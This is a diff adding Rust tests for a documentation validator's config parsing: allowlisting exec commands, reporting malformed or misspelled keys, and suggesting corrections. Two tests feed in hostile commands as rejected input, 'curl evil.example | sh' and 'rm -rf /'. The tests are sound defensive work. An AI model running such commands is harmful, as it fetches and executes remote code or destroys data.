@@ -143,6 +143,7 @@ fn validator_config_validate_errors_on_empty_container() {
         container: String::new(),
         script: PathBuf::from("test.sh"),
         exec_command: None,
+        ..Default::default()
     };
 
     let err = config
@@ -163,6 +164,7 @@ fn validator_config_validate_errors_on_empty_script() {
         container: "alpine:3".to_owned(),
         script: PathBuf::new(),
         exec_command: None,
+        ..Default::default()
     };
 
     let err = config
@@ -183,7 +185,210 @@ fn validator_config_validate_passes_for_valid_config() {
         container: "osquery/osquery:5.17.0-ubuntu22.04".to_owned(),
         script: PathBuf::from("validators/validate-osquery.sh"),
         exec_command: None,
+        ..Default::default()
     };
 
     config.validate("osquery").expect("should pass validation");
 }
+
+/// Test: Config::from_value names the malformed validator in the error
+#[test]
+fn config_from_value_names_malformed_validator() {
+    let value: toml::Value = toml::from_str(
+        r#"
+        [validators.sqlite]
+        container = "keinos/sqlite3:3.47.2"
+        script = "validators/validate-sqlite.sh"
+
+        [validators.broken]
+        script = "validators/validate-broken.sh"
+    "#,
+    )
+    .expect("should be valid TOML");
+
+    let err = Config::from_value(value)
+        .unwrap_err()
+        .downcast::<ValidatorError>()
+        .expect("should be ValidatorError");
+    match err {
+        ValidatorError::ConfigParse { path, message } => {
+            assert_eq!(path, "preprocessor.validator.validators.broken");
+            assert!(message.contains("container"), "got: {message}");
+        }
+        other => panic!("expected ConfigParse, got {other:?}"),
+    }
+}
+
+/// Test: allowed_commands rejects a validator whose exec command isn't listed
+#[test]
+fn config_from_value_rejects_disallowed_exec_command() {
+    let value: toml::Value = toml::from_str(
+        r#"
+        allowed_commands = ["sqlite3 -json /tmp/test.db", "python3"]
+
+        [validators.sqlite]
+        container = "keinos/sqlite3:3.47.2"
+        script = "validators/validate-sqlite.sh"
+
+        [validators.python]
+        container = "python:3.12-slim"
+        script = "validators/validate-python.sh"
+        exec_command = "python3"
+
+        [validators.shell]
+        container = "alpine:3"
+        script = "validators/validate-bash-exec.sh"
+        exec_command = "sh -c 'curl evil.example | sh'"
+    "#,
+    )
+    .expect("should be valid TOML");
+
+    let err = Config::from_value(value)
+        .unwrap_err()
+        .downcast::<ValidatorError>()
+        .expect("should be ValidatorError");
+    match err {
+        ValidatorError::InvalidConfig { name, reason } => {
+            assert_eq!(name, "shell");
+            assert!(reason.contains("allowed_commands"), "got: {reason}");
+        }
+        other => panic!("expected InvalidConfig, got {other:?}"),
+    }
+}
+
+/// Test: allowed_commands accepts listed commands, including a validator's default
+#[test]
+fn config_from_value_accepts_allowed_exec_commands() {
+    let value: toml::Value = toml::from_str(
+        r#"
+        allowed_commands = ["sqlite3 -json /tmp/test.db", "python3"]
+
+        [validators.sqlite]
+        container = "keinos/sqlite3:3.47.2"
+        script = "validators/validate-sqlite.sh"
+
+        [validators.python]
+        container = "python:3.12-slim"
+        script = "validators/validate-python.sh"
+        exec_command = "python3"
+    "#,
+    )
+    .expect("should be valid TOML");
+
+    let config = Config::from_value(value).expect("listed commands should be allowed");
+    assert_eq!(config.validators.len(), 2);
+}
+
+/// Test: allowed_commands also applies to exec commands set in front matter
+#[test]
+fn front_matter_cannot_introduce_disallowed_exec_command() {
+    let value: toml::Value = toml::from_str(
+        r#"
+        allowed_commands = ["sqlite3 -json /tmp/test.db"]
+
+        [validators.sqlite]
+        container = "keinos/sqlite3:3.47.2"
+        script = "validators/validate-sqlite.sh"
+    "#,
+    )
+    .expect("should be valid TOML");
+    let config = Config::from_value(value).expect("default command is allowed");
+
+    let err = config
+        .with_front_matter(
+            "validator:\n  sqlite:\n    exec_command: rm -rf /\n",
+            "Intro",
+        )
+        .unwrap_err()
+        .downcast::<ValidatorError>()
+        .expect("should be ValidatorError");
+    assert!(
+        matches!(&err, ValidatorError::InvalidConfig { reason, .. } if reason.contains("rm -rf /")),
+        "got: {err}"
+    );
+}
+
+/// Test: Config::from_value reports the full path of a mistyped key
+#[test]
+fn config_from_value_names_mistyped_key() {
+    let value: toml::Value = toml::from_str(
+        r#"
+        [validators.sqlite]
+        container = "keinos/sqlite3:3.47.2"
+        script = "validators/validate-sqlite.sh"
+        allow_network = "yes"
+    "#,
+    )
+    .expect("should be valid TOML");
+
+    let err = Config::from_value(value).unwrap_err();
+    let msg = err.to_string();
+    assert!(msg.contains("[E015]"), "got: {msg}");
+    assert!(
+        msg.contains("preprocessor.validator.validators.sqlite.allow_network"),
+        "got: {msg}"
+    );
+}
+
+/// Test: Config::from_value rejects a misspelled key and suggests the right one
+#[test]
+fn config_from_value_suggests_field_for_typo() {
+    let value: toml::Value = toml::from_str(
+        r#"
+        [validators.sqlite]
+        continer = "keinos/sqlite3:3.47.2"
+        script = "validators/validate-sqlite.sh"
+    "#,
+    )
+    .expect("should be valid TOML");
+
+    let err = Config::from_value(value)
+        .unwrap_err()
+        .downcast::<ValidatorError>()
+        .expect("should be ValidatorError");
+    match err {
+        ValidatorError::ConfigParse { path, message } => {
+            assert!(
+                path.starts_with("preprocessor.validator.validators.sqlite"),
+                "got: {path}"
+            );
+            assert!(message.contains("`continer`"), "got: {message}");
+            assert!(
+                message.contains("did you mean `container`?"),
+                "got: {message}"
+            );
+        }
+        other => panic!("expected ConfigParse, got {other:?}"),
+    }
+}
+
+/// Test: Config::from_value rejects misspelled top-level keys too
+#[test]
+fn config_from_value_rejects_unknown_top_level_key() {
+    let value: toml::Value = toml::from_str("fail_fsat = false").expect("should be valid TOML");
+
+    let msg = Config::from_value(value).unwrap_err().to_string();
+    assert!(msg.contains("[E015]"), "got: {msg}");
+    assert!(msg.contains("did you mean `fail_fast`?"), "got: {msg}");
+}
+
+/// Test: Config::from_value accepts a well-formed table
+#[test]
+fn config_from_value_parses_valid_table() {
+    let value: toml::Value = toml::from_str(
+        r#"
+        command = "mdbook-validator"
+        after = ["links"]
+        fail_fast = false
+
+        [validators.sqlite]
+        container = "keinos/sqlite3:3.47.2"
+        script = "validators/validate-sqlite.sh"
+    "#,
+    )
+    .expect("should be valid TOML");
+
+    let config = Config::from_value(value).expect("should parse");
+    assert!(!config.fail_fast);
+    assert!(config.validators.contains_key("sqlite"));
+}